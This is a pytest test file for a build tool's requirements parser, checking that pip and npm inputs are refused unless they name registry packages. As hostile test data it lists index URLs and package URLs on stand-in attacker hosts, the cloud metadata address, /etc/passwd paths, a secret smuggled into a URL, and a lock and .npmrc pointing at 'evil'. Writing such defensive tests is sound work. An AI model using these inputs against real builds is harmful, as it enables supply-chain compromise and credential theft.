"""Requirements files, hostile ones included: what is read, what is refused, in what words."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from builder import dependencies
from builder.context import MODIFIED
from builder.requirements import MAX_BYTES, Pin, parse, render, restrict
from builder.templates import find_template
from core.errors import BuildFailed

HASH = "sha256:" + "ab" * 32
OTHER = "sha256:" + "cd" * 32


def read(text: str) -> list[str]:
    return [str(pin) for pin in parse(text.encode(), "requirements.txt")]


def refused(text: str) -> str:
    with pytest.raises(BuildFailed) as caught:
        read(text)
    return str(caught.value)


def test_names_versions_extras_and_markers() -> None:
    text = """
        # what we need
        Flask >= 3, < 4   # the web
        uvicorn[standard]~=0.30
        tomli>=2 ; python_version < "3.11"
        requests==2.*
    """
    assert read(text) == [
        "Flask<4,>=3",
        "uvicorn[standard]~=0.30",
        'tomli>=2; python_version < "3.11"',
        "requests==2.*",
    ]


def test_hashes_over_continued_lines() -> None:
    (pin,) = parse(f"six==1.17.0 \\\n  --hash={HASH} \\\n  --hash {OTHER}\n".encode(), "r")
    assert pin.hashes == (HASH, OTHER)
    assert parse(str(pin).encode(), "r") == [pin]


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("-r other.txt", "reads another file"),
        ("--requirement=/etc/passwd", "reads another file"),
        ("-c constraints.txt", "reads another file"),
        ("-e .", "source folder"),
        ("--index-url https://evil.example/simple", "installation's choice"),
        ("--extra-index-url=http://169.254.169.254/", "installation's choice"),
        ("-f /etc", "installation's choice"),
        ("--pre", "name packages only"),
        ("-", "name packages only"),
        ("six --config-settings=x=y", "only --hash"),
        ("six --global-option=build_ext", "only --hash"),
        ("https://evil.example/x-1.0-py3-none-any.whl", "URL, a path"),
        ("git+https://evil.example/x.git", "URL, a path"),
        ("x @ https://evil.example/x.whl", "URL, a path"),
        ("x[a]@https://evil.example/x.whl", "URL, a path"),
        ("x@file:///etc/passwd", "URL, a path"),
        ("x@evil", "URL"),
        ("./folder", "URL, a path"),
        ("../up", "URL, a path"),
        ("/etc/passwd", "URL, a path"),
        ("~/x", "URL, a path"),
        ("C:\\x", "URL, a path"),
        ("folder/x.whl", "not a requirement"),
        ("${HOME}", "not a requirement"),
        ("six==", "not a requirement"),
        ("two words", "not a requirement"),
        ("six\0", "not a requirement"),
        ("six>=1 --hash=" + HASH, "one exact version"),
        ("six==1.* --hash=" + HASH, "one exact version"),
        ("six==1.0 --hash=md5:abc", "64 hex digits"),
        ("a" * 3000, "too long"),
        ("six ; " + "(" * 500 + "os_name=='x'" + ")" * 500, "too deeply nested"),
    ],
)
def test_anything_but_packages_of_the_registry_is_refused(line: str, told: str) -> None:
    message = refused(f"# first\nflask\n{line}\n")
    assert "requirements.txt has 1 mistake:" in message
    assert "line 3: " in message
    assert told in message


def test_all_mistakes_at_once_with_the_lines_where_they_begin() -> None:
    message = refused("six==1.0 \\\n  --pre\n\n-e .\nflask\nhttp://x/\n")
    assert "has 3 mistakes" in message
    assert [line.split(":")[0].strip() for line in message.splitlines()[1:]] == [
        "line 1",
        "line 4",
        "line 6",
    ]


def test_too_large_or_not_text() -> None:
    assert "at most 65536" in refused("#" * (MAX_BYTES + 1))
    with pytest.raises(BuildFailed, match="not UTF-8"):
        parse(b"six\xff\xfe", "requirements.txt")
    assert read("\ufeffsix") == ["six"]


def test_rendering_is_one_form_for_one_meaning() -> None:
    assert render(parse(b"b\na>1, <2\nb\n", "r")) == render(parse(b"# x\na <2,>1\nb", "r"))


def test_the_users_hashes_stay_binding() -> None:
    lock = parse(f"six==1.17.0 --hash={HASH} --hash={OTHER}\nx==1 --hash={OTHER}".encode(), "l")
    wanted = parse(f"Six==1.17.0 --hash={HASH}".encode(), "r")
    assert [pin.hashes for pin in restrict(lock, wanted)] == [(HASH,), (OTHER,)]
    with pytest.raises(BuildFailed, match="none of the hashes"):
        restrict(lock, [Pin(wanted[0].requirement, ("sha256:" + "ef" * 32,))])


@settings(max_examples=200, deadline=None)
@given(
    st.one_of(
        st.binary(max_size=400),
        st.text("abc-_.[],;@/\\#()<>=!~ \n\t'\"${}0123456789", max_size=200).map(str.encode),
    )
)
def test_nothing_gets_through_that_does_not_come_back_the_same(data: bytes) -> None:
    try:
        pins = parse(data, "requirements.txt")
    except BuildFailed:
        return
    written = render(pins)
    assert "://" not in written
    assert not any(line.startswith("-") for line in written.splitlines())
    assert render(parse(written.encode(), "again")) == written


def test_an_image_installs_only_what_was_read(tmp_path: Path) -> None:
    """What uv takes for an option here is a comment to us."""
    own = tmp_path / "function"
    own.mkdir()
    (tmp_path / "requirements.txt").write_text("werkzeug==3.*\n")
    (own / "requirements.txt").write_text(
        f"six==1.17.0 --hash={HASH} # x \\\n--extra-index-url http://h/${{UV_INDEX_A_PASSWORD}}/\n"
    )
    dependencies.lay_out(find_template("python3-http"), tmp_path)
    written = tmp_path / ".dependencies/requirements.txt"
    assert written.read_text() == f"six==1.17.0 \\\n    --hash={HASH}\nwerkzeug==3.*\n"
    assert {int(each.stat().st_mtime) for each in (written, written.parent, tmp_path)} == {MODIFIED}


def test_npm_gets_a_lock_without_addresses_and_no_file_of_the_user(tmp_path: Path) -> None:
    own = tmp_path / "function"
    own.mkdir()
    lock = {
        "lockfileVersion": 3,
        "packages": {"node_modules/a": {"version": "1.0.0", "resolved": "http://evil/a.tgz"}},
    }
    (own / "package.json").write_text('{"dependencies": {"a": "1"}, "scripts": {"install": "x"}}')
    (own / "package-lock.json").write_text(json.dumps(lock))
    (own / ".npmrc").write_text("registry=http://evil/\n")
    dependencies.lay_out(find_template("node"), tmp_path)
    written = {each.name: each.read_text() for each in (tmp_path / ".dependencies").iterdir()}
    assert set(written) == {"package.json", "package-lock.json"}
    assert not any("evil" in text or "install" in text for text in written.values())
